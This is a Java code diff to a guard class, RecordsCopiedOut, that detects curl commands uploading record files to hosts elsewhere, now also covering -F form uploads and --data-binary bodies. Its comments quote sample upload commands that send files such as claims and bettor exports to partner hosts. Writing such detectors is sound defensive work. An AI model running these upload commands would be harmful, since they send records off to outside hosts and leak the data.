@@ -115,7 +115,10 @@ final class RecordsCopiedOut {
   /**
    * Whether curl uploads a file of records as it is ({@code -T FILE}, {@code --upload-file FILE})
    * to a URL of a host elsewhere: {@code curl -T out/claims_20241118.txt ftp://ftp.partner.com/in/}
-   * (decision 198). A URL in a variable names no host the guard can judge.
+   * (decision 198); or as a form's file or a request's body (decision 245: {@code curl -F
+   * file=@exports/suspicious_bettors.csv https://partner.example/upload}, {@code --data-binary
+   * @out/batch.csv}), where a JSON or XML body is a request's, not records. A URL in a variable
+   * names no host the guard can judge.
    */
   private static boolean uploads(Scan scan, Step step) {
     List<Word> args = step.args();
@@ -126,6 +129,12 @@ final class RecordsCopiedOut {
       if ((text.equals("-T") || text.equals("--upload-file")) && i + 1 < args.size()) {
         String file = args.get(++i).text();
         records |= records(file) || recordsRenamed(scan, file);
+      } else if (CurlBodies.FORMS.contains(text) && i + 1 < args.size()) {
+        String file = CurlBodies.formFile(args.get(++i).text());
+        records |= file != null && (records(file) || recordsRenamed(scan, file));
+      } else if (CurlBodies.DATA.contains(text) && i + 1 < args.size()) {
+        String file = CurlBodies.dataFile(args.get(++i).text());
+        records |= file != null && !CurlBodies.requestBody(file) && records(file);
       } else if (text.contains("://") && args.get(i).literal()) {
         elsewhere |= elsewhere(Environments.host(text));
       }
